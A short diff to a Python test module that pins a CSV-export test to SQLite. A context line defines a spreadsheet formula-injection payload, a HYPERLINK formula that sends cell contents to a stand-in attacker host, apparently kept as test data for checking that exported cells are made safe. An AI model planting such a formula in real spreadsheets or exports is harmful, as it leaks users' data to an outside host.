@@ -29,6 +29,9 @@ from cadence.adapters.models import Lead, Task
 from cadence.services.context import Context
 from tests.conftest import Cli
 
+# The subject is the CSV cells, not the SQL that reads them: SQLite only (see tests/conftest.py).
+pytestmark = pytest.mark.one_database
+
 ROOT = Path(__file__).resolve().parents[2]
 NOW = "2026-11-23T14:00:00+00:00"  # a Monday
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
